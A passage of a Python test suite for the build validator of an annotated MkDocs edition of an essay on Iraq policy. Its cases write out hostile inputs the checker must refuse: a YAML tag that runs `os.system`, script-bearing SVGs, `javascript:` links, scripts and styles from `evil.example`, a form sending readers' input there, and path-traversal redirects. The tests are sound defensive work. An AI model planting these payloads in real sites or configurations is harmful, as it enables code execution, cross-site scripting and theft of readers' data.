        replace("sources/france24-2020-03-19.yml", 'title: "US-led coalition pulls trainers from Iraq over virus"',
                'title: "<b>US-led</b> coalition"'),
        f"sources/france24-2020-03-19.yml:4: 'title' holds '<b', which the citation formatter would read as markup; {MARKUP_FIX}"),
    "an entity in a container title": (
        replace("sources/france24-2020-03-19.yml", "container-title: France 24", "container-title: France &lt;24&gt;"),
        f"sources/france24-2020-03-19.yml:7: 'container-title' holds '&lt;', which the citation formatter would read as markup; "
        f"{MARKUP_FIX}"),
    "markup in an author's name": (
        replace("sources/france24-2020-03-19.yml", "  - literal: Agence France-Presse", "  - literal: <sc>AFP</sc>"),
        f"sources/france24-2020-03-19.yml:6: author {{'literal': '<sc>AFP</sc>'}} holds '<s', which the citation formatter "
        f"would read as markup; {MARKUP_FIX}"),
    "markup in the edition's subtitle": (
        replace(EDITION, "subtitle: An Annotated Edition", "subtitle: An <b>Annotated</b> Edition"),
        f"{EDITION}:4: 'subtitle' must be a subtitle, as text (no markup), got 'An <b>Annotated</b> Edition'; correct it"),
    "a brace in the edition's subtitle": (
        replace(EDITION, "subtitle: An Annotated Edition", "subtitle: An {Annotated} Edition"),
        f"{EDITION}:{line_of(EDITION, 'subtitle:')}: 'subtitle' must be a subtitle, as text (no markup), got "
        f"'An {{Annotated}} Edition'; {EDITION_BRACE_FIX}"),
}

CONFIG = "mkdocs.yml"
ABOUT_NAV = line_of(CONFIG, "      - About: about.md")
CONFIG_END = len((Path(__file__).resolve().parents[1] / CONFIG).read_text(encoding="utf-8").rstrip("\n").split("\n")) + 2
LOCK_FIX = 'write "old-page/": "new-page/"'


def write_file(path: str, data: bytes):
    def breaks(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
    return breaks


def remove_and_fifo(path: str):
    def breaks(root: Path) -> None:
        (root / path).unlink()
        os.mkfifo(root / path)
    return breaks


# sources/: a file the build would pass over is named, never silently left unread.
UNREAD = {
    "a source record ending in .yaml": ("sources/fake-2020-01-01.yaml", "ends in .yaml, and the build reads only records "
                                        "ending in .yml; rename it to fake-2020-01-01.yml"),
    "a source record in a subfolder": ("sources/2020/fake-2020-01-01.yml", "is in a subfolder of sources/, where the build "
                                       "reads no record; move it up, to sources/fake-2020-01-01.yml (only sources/essay/ "
                                       "has folders of its own)"),
}
CASES |= {name: (write_file(path, b"id: fake-2020-01-01\n"), f"{path}: {what}") for name, (path, what) in UNREAD.items()}

DOCS_KEEP = "keep under docs/ only pages and .avif, .css, .gif, .ico, .jpeg, .jpg, .js, .png, .svg, .webp, .woff, .woff2 files"
CASES |= {
    # mkdocs.yml: MkDocs reads it with PyYAML's full loader; the edition reads it first, as plain YAML.
    "mkdocs.yml: a Python tag that would run a command": (
        replace(CONFIG, "extra:\n", 'extra:\n  x: !!python/object/apply:os.system ["touch pwned"]\n'),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: invalid YAML: unsupported YAML tag (could not determine a constructor for "
        "the tag 'tag:yaml.org,2002:python/object/apply:os.system'); use plain YAML values: tags such as !!python/object "
        "are refused"),
    "mkdocs.yml: an alias": (
        replace(CONFIG, "strict: true", "strict: &s true\nuse_directory_urls: *s"),
        f"{CONFIG}:{line_of(CONFIG, 'strict: true')}: YAML anchors and aliases (&name, *name) are not allowed; "
        "write each value out where it is used"),
    "mkdocs.yml: a key given twice": (
        add_line(CONFIG, "strict: false"),
        f"{CONFIG}:{CONFIG_END}: key 'strict' appears twice in the same mapping (first on line {line_of(CONFIG, 'strict: true')}); "
        "keep one of them"),
    "mkdocs.yml: a FIFO": (
        remove_and_fifo(CONFIG),
        "mkdocs.yml: is not a regular file (a FIFO, socket or device); make it a regular file of the project "
        "(see the README for what it holds)"),
    "mkdocs.yml: templates from outside the project": (
        replace(CONFIG, "custom_dir: overrides", "custom_dir: /tmp/evilthemes"),
        f"{CONFIG}:{line_of(CONFIG, 'custom_dir: overrides')}: `theme.custom_dir` is '/tmp/evilthemes'; templates are the "
        "edition's code, in overrides/; set `custom_dir: overrides`"),
    "mkdocs.yml: pages from outside the project": (
        add_line(CONFIG, "docs_dir: /tmp/evildocs"),
        f"{CONFIG}:{CONFIG_END}: `docs_dir` is '/tmp/evildocs'; the edition's checks read docs/ only; remove it, or set `docs_dir: docs`"),
    "mkdocs.yml: settings inherited from another file": (
        add_line(CONFIG, "INHERIT: base.yml"),
        f"{CONFIG}:{CONFIG_END}: `INHERIT` would take settings from another file, which MkDocs reads unchecked (its YAML "
        "tags can run code) and the PDF's cache does not see; remove it, and write those settings into mkdocs.yml"),
    "mkdocs.yml: an option for an edition extension": (
        replace(CONFIG, "  - edition.markdown.notes ", "  - edition.markdown.notes: {bogus: 1} "),
        f"{CONFIG}:{line_of(CONFIG, '  - edition.markdown.notes ')}: `edition.markdown.notes` takes no options in mkdocs.yml, "
        "got {'bogus': 1}; write `- edition.markdown.notes` alone"),
    "mkdocs.yml: a repository address": (
        add_line(CONFIG, "repo_url: https://github.com/example/example"),
        f"{CONFIG}:{CONFIG_END}: `repo_url` makes every page ask api.github.com for the repository's stars; "
        "remove it: the site makes no request to another host"),
    "mkdocs.yml: a script from another host": (
        replace(CONFIG, "  - javascripts/edition.js", "  - javascripts/edition.js\n  - https://evil.example/x.js"),
        f"{CONFIG}:{line_of(CONFIG, 'javascripts/edition.js') + 1}: `extra_javascript` loads 'https://evil.example/x.js' "
        "from another host; put the file under docs/ and name its path"),
    "mkdocs.yml: fonts from Google": (
        replace(CONFIG, "  font: false ", "  font: {text: Roboto} "),
        f"{CONFIG}:{line_of(CONFIG, 'font: false')}: `theme.font` is not false: Material would load the fonts from Google; "
        "set `font: false` (the stylesheet names the fonts)"),
    # anchors.lock: a redirect is a file the build writes.
    "anchors.lock: a redirect out of the site": (
        replace("anchors.lock", "redirects: {}", 'redirects: {"../escaped/": "about/"}'),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect '../escaped/' → 'about/': both must be URL paths "
        f"of the site, such as \"old-page/\" (no \"..\", no leading \"/\", no other host, no name of more than 255 "
        f"bytes); {LOCK_FIX}"),
    "anchors.lock: a redirect to an absolute path": (
        replace("anchors.lock", "redirects: {}", 'redirects: {"/tmp/abs/": "about/"}'),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect '/tmp/abs/' → 'about/': both must be URL paths "
        f"of the site, such as \"old-page/\" (no \"..\", no leading \"/\", no other host, no name of more than 255 "
        f"bytes); {LOCK_FIX}"),
    "anchors.lock: a redirect from inside a file the site publishes": (
        replace("anchors.lock", "redirects: {}", 'redirects: {"404.html/": "about/"}'),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect '404.html/' would be written inside 404.html, "
        "a file the site publishes; redirect from the moved page's own old path, such as \"old-page/\""),
    "anchors.lock: redirects as a list": (
        replace("anchors.lock", "redirects: {}", "redirects: [a, b]"),
        f"anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: 'redirects' must be a mapping of old URL paths to new ones, "
        f"got ['a', 'b']; {LOCK_FIX}"),
    "anchors.lock: pages as a number": (
        lambda root: (root / "anchors.lock").write_text("pages: 5\n", encoding="utf-8"),
        "anchors.lock:1: 'pages' must be a mapping of each page's URL path to a list of ids, got 5; "
        "run `make anchors` to rewrite it"),
    "anchors.lock: a FIFO": (
        remove_and_fifo("anchors.lock"),
        "anchors.lock: is not a regular file (a FIFO, socket or device); make it a regular file of the project "
        "(see the README for what it holds)"),
    # docs/: only pages and assets of kinds the site may serve.
    "docs: an HTML file of its own": (
        write_file("docs/assets/evil.html", b"<script>alert(1)</script>"),
        f"docs/assets/evil.html: a .html file would be published as a document of the site; {DOCS_KEEP}"),
    "docs: an SVG with a script": (
        write_file("docs/assets/evil.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "docs/assets/evil.svg:1: an SVG image that holds <script>, which is not a plain shape, text or paint element; "
        "save it without scripts, links or embedded documents"),
    "docs: a script mkdocs.yml does not load": (
        write_file("docs/assets/x.js", b'alert("ran")'),
        "docs/assets/x.js: a script that mkdocs.yml does not load: pages carry no scripts of their own; remove it, or add it "
        "to `extra_javascript` in mkdocs.yml if the edition needs it"),
    "docs: a page name with a space": (
        write_file("docs/a b.md", b"# A page\n"),
        "docs/a b.md: a page's file name must be lowercase letters, digits and hyphens (its URL); rename it, for example to a-b.md"),
    "docs: a NUL byte in a page": (
        write_file("docs/about.md", b"# About\n\nHello\x00world\n"),
        "docs/about.md:3: holds the control character U+0000; save it as plain UTF-8 text with Unix or Windows line endings"),
    "docs: a note call in an image's alt text": (
        replace("docs/about.md", "## The essay", "![A map of Iraq [^ed-zarif]](map.png)\n\n## The essay"),
        f"docs/about.md:9: [^ed-zarif] {NOT_A_CALL_THERE}"),
    "docs: a note call in an HTML attribute": (
        replace("docs/about.md", "## The essay", '<span title="see [^ed-zarif]">x</span>\n\n## The essay'),
        f"docs/about.md:9: [^ed-zarif] {NOT_A_CALL_THERE}"),
    "docs: a page at the same address as another": (
        write_file("docs/about/index.md", b"---\ndescription: A second page at the address of About, made by mistake.\n---\n"
                   b"# About again\n\nText.\n"),
        "docs/about.md:1: has the same address, /about/, as docs/about/index.md; keep one of the two, or rename one"),
    "docs: a right-to-left override in a page": (
        replace("docs/about.md", "## The essay", "## The \u202eessay"),
        "docs/about.md:9: holds U+202E, an invisible character that breaks or reorders the text around it; "
        "remove it: right-to-left words are set by their language, as `dir=\"rtl\"` does"),
    "docs: a right-to-left isolate in a paragraph of the essay": (
        replace("docs/index.md", "Trump", "Tr\u2067ump"),
        None),
    "docs: a zero-width joiner in a heading": (
        replace("docs/about.md", "## The essay", "## The\u200d essay"),
        "docs/about.md:9: a heading holds U+200D, an invisible character that makes its anchor and its search entry differ "
        "from the words shown; remove it: retype the heading"),
    "docs: a line separator in a page's title": (
        replace("docs/about.md", "# About this edition", "# About this\u2028edition"),
        "docs/about.md:7: a heading holds U+2028, an invisible character that makes its anchor and its search entry differ "
        "from the words shown; remove it: retype the heading"),
    "docs: a line separator in a page's title underlined": (
        replace("docs/about.md", "# About this edition", "About this\u2028edition\n===="),
        "docs/about.md:7: a heading holds U+2028, an invisible character that makes its anchor and its search entry differ "
        "from the words shown; remove it: retype the heading"),
    "docs: old Mac line endings": (
        lambda root: (root / "docs/conventions.md").write_bytes((root / "docs/conventions.md").read_bytes().replace(b"\n", b"\r")),
        "docs/conventions.md:1: holds a carriage return without a line feed (old Mac line endings); "
        "save it as plain UTF-8 text with Unix or Windows line endings"),
    "sources: the folder is a link to elsewhere": (
        lambda root: (os.rename(root / "sources", root / "elsewhere"), os.symlink(root / "elsewhere", root / "sources")),
        "sources: is a symbolic link: its target would be read and published; make it a folder of the project"),
    "CITATION.cff: a FIFO": (
        remove_and_fifo("CITATION.cff"),
        "CITATION.cff: is not a regular file (a FIFO, socket or device); make it a regular file of the project "
        "(see the README for what it holds)"),
    "a glossary term the essay does not use": (
        replace("sources/essay/glossary.yml", "terms: [Quds Force]", "terms: [Quds Forcex]"),
        # At its `terms:` line (tenth round, case 126: it was named at the entry's `- id:` line).
        f"sources/essay/glossary.yml:{line_of(GLOSSARY, 'terms: [Quds Force]')}: glossary entry 'quds-force': “Quds Forcex” "
        "does not occur in the essay; "
        "copy the words exactly as the essay writes them, or remove them from `terms`"),
    "a look-alike letter in an event id": (
        replace("sources/essay/events.yml", "id: abqaiq-attack", "id: abq\u0430iq-attack"),
        f"sources/essay/events.yml:{ABQAIQ_ID}: event id 'abq\u0430iq-attack' is not a slug or used twice, where '\u0430' is "
        "U+0430 CYRILLIC SMALL LETTER A, not a Latin letter"),
    "a glossary name nested five thousand deep": (
        replace("sources/essay/glossary.yml", "name: Kataib Hizbullah", "name: " + "[" * 5000 + "]" * 5000),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', 'name: Kataib Hizbullah')}: lists and mappings "
        "nested more than 32 deep; "
        "flatten the structure: no record of the edition needs more than a few levels"),
}

# anchors.lock's aliases: each a rename that is real, listed once, between ids a link can name.
ALIAS = "- {page: about/, old: rights, new: reuse}"
ALIASES = {
    "anchors.lock: an alias listed twice": (
        f"{ALIAS}\n{ALIAS}", f"'rights' is already an alias (line {line_of('anchors.lock', ALIAS)}); list each alias once", "rights"),
    "anchors.lock: an alias that is not an id": (
        "- {page: about/, old: 'rights\"><b', new: reuse}",
        "'rights\"><b' is not an id; write the id as the page has it: letters, digits, '-', '_', '.' or ':'", 'rights"><b'),
}
CASES |= {name: (replace("anchors.lock", ALIAS, alias), f"anchors.lock:{line_of('anchors.lock', ALIAS) + alias.count(chr(10))}: "
                 f"alias {old!r} → 'reuse' on about/: {what}") for name, (alias, what, old) in ALIASES.items()}

CASES["docs: a div never closed"] = (
    add_line(ABOUT, '<div class="note">\n\nThe rest of the page.'),
    f"{ABOUT}:{ABOUT_END}: <div> is opened here and never closed: the rest of the page would fall inside it; "
    "add </div> where it should end")

# An id given by an attribute list is a promise to links: one element per id, none of the edition's own.
OWN_IDS = ("the edition writes itself (p1, p2… for the essay's paragraphs, cite for the Cite panel, v0.2.0… for its "
           "versions, and ids starting src-, ev-, term-, ed-, fn: or fnref:), so two elements would share it; choose another id")
CASES |= {
    "docs: an id given twice by attribute lists": (
        add_line(ABOUT, "## One {#twice}\n\n## Two {: #twice }"),
        f"{ABOUT}:{ABOUT_END + 2}: the id 'twice' is given twice on the page (first on line {ABOUT_END}); "
        "give each element an id of its own"),
    "docs: the Cite panel's id given by an attribute list": (
        add_line(ABOUT, "Hello\n{: #cite }"), f"{ABOUT}:{ABOUT_END + 1}: the id 'cite' is one {OWN_IDS}"),
    "docs: a paragraph's anchor given by an attribute list": (
        add_line(ABOUT, "## Three {#p3}"), f"{ABOUT}:{ABOUT_END}: the id 'p3' is one {OWN_IDS}"),
    "docs: a note's anchor given by an attribute list": (
        add_line(ABOUT, "*Hello*{: id=fnref:ed-zarif }"), f"{ABOUT}:{ABOUT_END}: the id 'fnref:ed-zarif' is one {OWN_IDS}"),
}

# Found by a second reviewer: SVG read as XML, stylesheets' plain strings, mkdocs.yml's code hooks.
SVG_FIX = "save it without scripts, links or embedded documents"
SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg">'
CASES |= {
    "docs: an SVG hiding a script in a style element": (
        write_file("docs/assets/s1.svg", SVG_OPEN + b"<style><script>alert(document.domain)</script></style></svg>"),
        f"docs/assets/s1.svg:1: an SVG image that holds <style>, which is not a plain shape, text or paint element; {SVG_FIX}"),
    "docs: an SVG with a prefixed script": (
        write_file("docs/assets/s5.svg", SVG_OPEN + b'<x:script xmlns:x="http://www.w3.org/2000/svg">alert(5)</x:script></svg>'),
        f"docs/assets/s5.svg:1: an SVG image that holds <script>, which is not a plain shape, text or paint element; {SVG_FIX}"),
    "docs: an SVG that sets a javascript: link": (
        write_file("docs/assets/s3.svg", SVG_OPEN + b'<a><set attributeName="href" to="javascript:alert(3)"/></a></svg>'),
        f"docs/assets/s3.svg:1: an SVG image that holds <a>, which is not a plain shape, text or paint element; {SVG_FIX}"),
    "docs: an SVG with a stylesheet from another host": (
        write_file("docs/assets/s2.svg", b'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>' + SVG_OPEN + b"</svg>"),
        f"docs/assets/s2.svg:1: an SVG image that holds a DOCTYPE, entities or a processing instruction; {SVG_FIX}"),
    "docs: an SVG painted from another host": (
        write_file("docs/assets/s4.svg", SVG_OPEN + b'<rect fill="url(https://evil.example/f)"/></svg>'),
        f"docs/assets/s4.svg:1: an SVG image that loads 'url(https://evil.example/f)'; {SVG_FIX}"),
}
# Every problem of an SVG at once, each at its line (the fifth hostile round of issue 27).
SVG_MANY = SVG_OPEN.replace(b">", b' onload="alert(1)">') + (
    b'\n<script>alert(2)</script>\n<image href="https://evil.example/i.png"/>\n<a href="javascript:alert(3)">x</a>\n</svg>')
CASES |= {
    f"docs: an SVG's {what}": (write_file("docs/assets/many.svg", SVG_MANY), f"docs/assets/many.svg:{line}: an SVG image that {what}")
    for line, what in ((1, "has the attribute onload= on <svg>"),
                       (2, "holds <script>, which is not a plain shape, text or paint element"),
                       (3, "holds <image>, which is not a plain shape, text or paint element"),
                       (4, "holds <a>, which is not a plain shape, text or paint element"))
}
CASES |= {
    "a stylesheet importing a plain string from another host": (
        add_line(STYLESHEET, '@import "https://evil.example/a.css";'),
        f"{STYLESHEET}:{STYLESHEET_END}: 'https://evil.example/a.css' {FETCHED}"),
    "a stylesheet with an image-set from another host": (
        add_line(STYLESHEET, 'body { background: image-set("//evil.example/i.png" 1x); }'),
        f"{STYLESHEET}:{STYLESHEET_END}: '//evil.example/i.png' {FETCHED}"),
    "mkdocs.yml: hooks that run Python": (
        add_line(CONFIG, "hooks:\n  - evilhook.py"),
        f"{CONFIG}:{CONFIG_END}: `hooks` would run Python files of the project at every build, outside the edition's checks; "
        "remove it: the edition's code lives in scripts/edition/"),
    "mkdocs.yml: an extension that reads files from the machine": (
        replace(CONFIG, "  - attr_list\n", "  - attr_list\n  - pymdownx.snippets: {base_path: ['/'], restrict_base_path: false}\n"),
        f"{CONFIG}:{line_of(CONFIG, '  - attr_list') + 1}: `markdown_extensions` names 'pymdownx.snippets', which the edition has "
        "not checked (it could read files from the machine or the network into the pages); use one of: abbr, admonition, "
        "attr_list, def_list, footnotes, md_in_html, sane_lists, smarty, tables, toc; or review it and add it to this list "
        "in scripts/edition/model/edition.py"),
    "mkdocs.yml: an image from /\\host in the copyright": (
        replace(CONFIG, "copyright: >-\n", 'copyright: >-\n  <img src="/\\evil.example/n.png" alt="">\n'),
        None),
}

CASES["mkdocs.yml: a list setting that is a number"] = (
    replace(CONFIG, "extra_javascript:\n  - javascripts/edition.js", "extra_javascript: 5"),
    f"{CONFIG}:{line_of(CONFIG, 'extra_javascript:')}: `extra_javascript` must be a list of files under docs/, got 5; "
    "write `extra_javascript:` as a list")


# Found by a reviewer of the schemas and the build paths (issue 25): each refused in the input, by file and line.
CHANGES = "sources/essay/changes.yml"
CASES |= {
    "a noncharacter (U+FFFF) in the edition's title": (
        replace(EDITION, "title: In Iraq, Restraint Is America’s Best Option", 'title: "In Iraq\\uffff Restraint"'),
        f"{EDITION}:3: a value holds U+FFFF, a noncharacter, which is never text; remove it (write plain text)"),
    "a PDF name ending in a line break": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", '  file: "in-iraq-restraint-annotated-edition.pdf\\n"'),
        f"{EDITION}:12: 'pdf' `file:`: {NOT_A_PDF}, got 'in-iraq-restraint-annotated-edition.pdf\\n'; write it as {PDF_SHAPE}"),
    "a PDF name too long for a file system": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", "  file: " + "a" * 300 + ".pdf"),
        f"{EDITION}:12: 'pdf' `file:`: {NOT_A_PDF}, got 'aaaa"),
    "a subtitle of a zero-width space": (
        replace(EDITION, "subtitle: An Annotated Edition", 'subtitle: "\\u200b"'),
        f"{EDITION}:4: a value holds U+200B, an invisible character that breaks or reorders the text around it; "
        "remove it (write plain text)"),
    "an unknown key inside pdf:": (
        replace(EDITION, "  file: in-iraq-restraint-annotated-edition.pdf", "  extra: 1\n  file: in-iraq-restraint-annotated-edition.pdf"),
        f"{EDITION}:12: 'pdf' `extra:`: not a field there is, got 1; remove it, or use one of: file, appendices"),
    "an author as a literal name": (
        replace(EDITION, "  - {given: Sam, family: Heller}", "  - {literal: Sam Heller}"),
        f"{EDITION}:7: 'authors' entry 2 `given:`: missing, got {{'literal': 'Sam Heller'}}; "
        "write it as a list of `{given: …, family: …}`"),
    "a version ending in a line break": (
        replace(CHANGES, "- version: 0.2.0", '- version: "0.2.0\\n"'),
        f"{CHANGES}:6: version 0.2.0U+000A: 'version' must be MAJOR.MINOR.PATCH, e.g. 0.3.0, got '0.2.0\\n'; correct it"),
    "a date in Arabic-Indic digits": (
        replace("sources/france24-2020-03-19.yml", "issued: 2020-03-19", 'issued: "٢٠٢٠-٠٣-١٩"'),
        "sources/france24-2020-03-19.yml:9: 'issued' must be an ISO date (YYYY-MM-DD, YYYY-MM or YYYY), got '٢٠٢٠-٠٣-١٩'"),
    "mkdocs.yml without the edition plugin": (
        replace(CONFIG, "  - edition   #", "  #- edition   #"),
        f"{CONFIG}:{line_of(CONFIG, '  - edition   #') - 2}: `plugins` does not name `edition`, which loads and checks the "
        "edition under `mkdocs build` and `mkdocs serve`"),
    "an unknown original, at its line": (
        replace(EDITION, "original: warontherocks-2020-03", "original: nope"),
        f"{EDITION}:8: 'original' names an unknown source 'nope'; name the source record of the essay as first published"),
}


TEMPLATE = "overrides/base.html"
DRAWER = '    <input class="md-toggle" data-md-toggle="drawer" type="checkbox" id="__drawer">'
TEMPLATE_FIX = "remove it, or serve what it needs from the site itself (docs/): templates may not break the site's promises"


# Lists and mappings where an id or a number is expected, and empty names: each field is typed by the
# ledgers' schemas, so a wrong kind of value is refused at its line and never reaches the code.
CASES |= {
    "a claim's source as a list": (
        replace("sources/essay/claims.yml", "  source: dod-2020-03-12\n  claim: The 11 March",
                "  source: [dod-2020-03-12]\n  claim: The 11 March"),
        f"sources/essay/claims.yml:{SERIES_SOURCE}: 'source' must be the id of a record in sources/, got ['dod-2020-03-12']; "
        "use the id of a record in sources/, as the note's marker names it"),
    "a claim's support as a list": (
        replace("sources/essay/claims.yml", "  support: partial\n  excerpt: It marked", "  support: [partial]\n  excerpt: It marked"),
        f"sources/essay/claims.yml:{SERIES_SUPPORT}: 'support' must be one of full, partial, context, none, got ['partial']; "
        "full, partial, context or none: how far the source's words support the claim"),
    "an event's sources as a list of lists": (
        replace("sources/essay/events.yml", "  sources: [abqaiq-2019-09-14]", "  sources: [[abqaiq-2019-09-14]]"),
        f"sources/essay/events.yml:{ABQAIQ_SOURCES}: event 'abqaiq-attack': 'sources' entry 1: not text, got ['abqaiq-2019-09-14']; "
        "write it as a list of the ids of the source records that establish it"),
    "an event's paragraphs holding true": (
        replace("sources/essay/events.yml", "  paragraphs: [24]", "  paragraphs: [true, 24]"),
        f"sources/essay/events.yml:{PROTESTS_PARAGRAPHS}: event 'protests-begin': 'paragraphs' entry 1: not a whole number, got true; "
        "write it as a list of the numbers of the paragraphs that discuss it"),
    "a quotation's source as a mapping": (
        replace("sources/essay/quotations.yml", "source: nyt-2020-03-27}", "source: {id: nyt-2020-03-27}}"),
        "sources/essay/quotations.yml:7: 'source' must be the id of a record in sources/, got {'id': 'nyt-2020-03-27'}; "
        "use the id of the record whose `quotes:` hold the words"),
    "a glossary entry's sources as mappings": (
        replace("sources/essay/glossary.yml", "  sources: [almonitor-2015-03, ap-2020-01-03]",
                "  sources: [{id: almonitor-2015-03}, ap-2020-01-03]"),
        f"sources/essay/glossary.yml:{PM_SOURCES}: glossary entry 'popular-mobilization': 'sources' entry 1: not text, "
        "got {'id': 'almonitor-2015-03'}; "
        "write it as a list of the ids of the source records that establish it"),
    "the essay's own record without an address": (
        replace("sources/warontherocks-2020-03.yml", "url: https://warontherocks.com/2020/03/in-iraq-restraint-is-americas-best-option/\n"
                "accessed: 2026-11-25\nlanguage: en\nurl_status: live\nverification_level: document",
                "language: en\nverification_level: unverified"),
        "sources/warontherocks-2020-03.yml:2: 'warontherocks-2020-03' is the essay's own record (edition.yml `original:`), "
        "which needs `url:` and `container-title:`: every page and the PDF name and link the essay as first published; "
        "give the record the essay's address and its publication"),
    "the essay's own record with a date in words": (
        replace("sources/warontherocks-2020-03.yml", "issued: 2020-03", "issued: March 2020"),
        "sources/warontherocks-2020-03.yml:11: 'issued' must be an ISO date (YYYY-MM-DD, YYYY-MM or YYYY), got 'March 2020'; "
        "write it as YYYY-MM-DD, YYYY-MM or YYYY"),
    "a glossary term listed by two entries": (
        replace("sources/essay/glossary.yml", "terms: [Kataib Hizbullah]", "terms: [Kataib Hizbullah, soleimani]"),
        f"sources/essay/glossary.yml:{line_of('sources/essay/glossary.yml', 'terms: [Qassem Soleimani, Soleimani]')}: glossary "
        "entry 'soleimani': the term “Soleimani” is also listed by 'kataib-hizbullah' "
        f"(line {line_of('sources/essay/glossary.yml', '- id: kataib-hizbullah')}); list each of the essay's words under one entry"),
    "mkdocs.yml: a page listed twice in nav": (
        replace(CONFIG, "      - About: about.md", "      - About: about.md\n      - Again: about.md"),
        f"{CONFIG}:{ABOUT_NAV + 1}: `nav` lists about.md twice (first on line {ABOUT_NAV}); list each page once"),
    "mkdocs.yml: a page in nav that docs/ does not hold": (
        replace(CONFIG, "      - About: about.md", "      - About: about.md\n      - Lost: lost.md"),
        f"{CONFIG}:{ABOUT_NAV + 1}: `nav` lists 'lost.md', which is no page under docs/; name a page by its path from docs/ "
        "(such as about.md), or remove the entry"),
    "mkdocs.yml: a form in a nav title": (
        replace(CONFIG, "      - About: about.md", "      - 'About<form action=https://evil.example/><input name=q>': about.md"),
        f"{CONFIG}:{ABOUT_NAV}: a `nav` title holds '<f', which Material writes into every page as HTML; write the title as plain text"),
    "mkdocs.yml: a link in the copyright": (
        replace(CONFIG, "  Annotations and code by the edition’s editors.", "  Annotations <a href=https://evil.example>here</a>."),
        f"{CONFIG}:{line_of(CONFIG, 'copyright: >-')}: `copyright` holds '<a', which Material writes into every page as HTML; "
        "write it as plain text: the theme sets the words"),
    "mkdocs.yml: a javascript: link in nav": (
        replace(CONFIG, "      - About: about.md", "      - About: about.md\n      - Click: 'javascript:alert(1)'"),
        f"{CONFIG}:{ABOUT_NAV + 1}: `nav` links to 'javascript:alert(1)'; name a page under docs/, or link to an https:// address"),
    "mkdocs.yml: a script from another host behind a space": (
        replace(CONFIG, "  - javascripts/edition.js", "  - javascripts/edition.js\n  - ' //evil.example/x.js'"),
        f"{CONFIG}:{line_of(CONFIG, '  - javascripts/edition.js') + 1}: `extra_javascript` loads ' //evil.example/x.js' from "
        "another host; put the file under docs/ and name its path"),
    "a brace in a record's title": (
        replace("sources/france24-2020-03-19.yml", 'title: "US-led coalition pulls trainers from Iraq over virus"',
                'title: "US-led coalition pulls trainers} from Iraq over virus"'),
        "sources/france24-2020-03-19.yml:4: 'title' holds '}', which BibTeX reads as a group: the entry would break; "
        "use round or square brackets instead"),
    "a brace in a record's author": (
        replace("sources/france24-2020-03-19.yml", "  - literal: Agence France-Presse", "  - literal: Agence {France-Presse"),
        "sources/france24-2020-03-19.yml:6: author {'literal': 'Agence {France-Presse'} holds '{', which BibTeX reads as a group: "
        "the entry would break; use round or square brackets instead"),
    "a brace in a page's heading": (
        replace("docs/about.md", "# About", "# About {this"),
        "docs/about.md:7: the page's heading holds '{', which BibTeX reads as a group: its citation would break; "
        "use round or square brackets instead"),
    "a brace in the edition's title": (
        replace(EDITION, "title: In Iraq, Restraint Is America’s Best Option", "title: In Iraq, Restraint Is America’s Best Option}"),
        f"{EDITION}:3: 'title' must be the edition's title, as text (no markup), got 'In Iraq, Restraint Is America’s Best "
        f"Option}}'; {EDITION_BRACE_FIX}"),
    "a <base> in a template": (
        replace("overrides/base.html", DRAWER, DRAWER + '<base href="https://evil.example/">'),
        f"{TEMPLATE}:105: every page would carry a <base> element, which moves every relative link of the page elsewhere"
        f"; {TEMPLATE_FIX}"),
    "an inline style from another host in a template": (
        replace("overrides/base.html", DRAWER, DRAWER + '<style>body{background:url(https://evil.example/x.png)}</style>'),
        f"{TEMPLATE}:105: every page would carry a style that loads 'https://evil.example/x.png' from another host"
        f"; {TEMPLATE_FIX}"),
    "a form posting off site in a template": (
        replace("overrides/base.html", DRAWER, DRAWER + '<form action="https://evil.example/collect"><input name=q></form>'),
        f"{TEMPLATE}:105: every page would carry a <form action> that sends what readers type to 'https://evil.example/collect'"
        f"; {TEMPLATE_FIX}"),
    "an iframe srcdoc in a template": (
        replace("overrides/base.html", DRAWER, DRAWER + '<iframe srcdoc="<p>x</p>"></iframe>'),
        f"{TEMPLATE}:105: every page would carry an <iframe srcdoc>, a page of its own that no check of the edition reads"
        f"; {TEMPLATE_FIX}"),
    "a style attribute from another host in a template": (
        replace("overrides/base.html", DRAWER, DRAWER + '<div style="background-image:url(//evil.example/x)"></div>'),
        f"{TEMPLATE}:105: every page would carry a style that loads '//evil.example/x' from another host"
        f"; {TEMPLATE_FIX}"),
    "mkdocs.yml: a site_url that closes its attribute": (
        replace(CONFIG, "site_url: https://iraq-restraint-edition.github.io/",
                'site_url: "https://iraq-restraint-edition.github.io/?\\"><form action=https://evil.example/>"'),
        None),
    "mkdocs.yml: analytics": (
        replace(CONFIG, "extra:\n", "extra:\n  analytics: {provider: google, property: G-XXXXXXXXXX}\n"), None),
    "mkdocs.yml: a logo from another host": (
        replace(CONFIG, "  font: false", "  logo: https://evil.example/logo.png\n  font: false"), None),
    "mkdocs.yml: a social link that runs a script": (
        replace(CONFIG, "extra:\n", "extra:\n  social: [{icon: fontawesome/brands/github, link: 'javascript:alert(1)'}]\n"), None),
    "mkdocs.yml: markup in an extension's option": (
        replace(CONFIG, "  - footnotes", "  - footnotes: {BACKLINK_TEXT: '<form action=https://evil.example/>back</form>'}"), None),
    "a template that connects to another host": (
        write_file("overrides/main.html", b'{% extends "base.html" %}{% block extrahead %}\n'
                   b'<link rel="preconnect" href="https://evil.example">\n{% endblock %}\n'),
        "overrides/main.html:2: every page would carry a <link> that loads 'https://evil.example' from another host; "
        f"{TEMPLATE_FIX}"),
    "a template that sends readers to another site": (
        write_file("overrides/main.html", b'{% extends "base.html" %}{% block extrahead %}\n'
                   b'<meta http-equiv="refresh" content="5;url=https://evil.example/">\n{% endblock %}\n'),
        "overrides/main.html:2: every page would carry a <meta http-equiv=refresh> that sends readers to "
        f"'https://evil.example/'; {TEMPLATE_FIX}"),
    "an event that lists a paragraph twice": (
        replace("sources/essay/events.yml", "  paragraphs: [24]", "  paragraphs: [24, 24]"),
